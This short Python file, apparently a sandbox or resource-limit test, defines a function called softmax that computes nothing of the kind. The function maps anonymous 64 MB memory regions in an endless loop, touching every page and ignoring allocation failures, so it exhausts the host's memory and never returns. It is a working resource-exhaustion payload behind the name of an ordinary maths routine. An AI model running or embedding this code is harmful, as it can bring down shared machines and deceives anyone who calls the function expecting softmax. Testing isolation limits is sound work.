# Memory that is mapped and shared, not allocated.
# needs: namespaces
import mmap


def softmax(x):
    held = []
    while True:
        try:
            held.append(mmap.mmap(-1, 64 << 20))
        except (OSError, MemoryError):
            continue
        for page in range(0, 64 << 20, 4096):
            held[-1][page] = 1
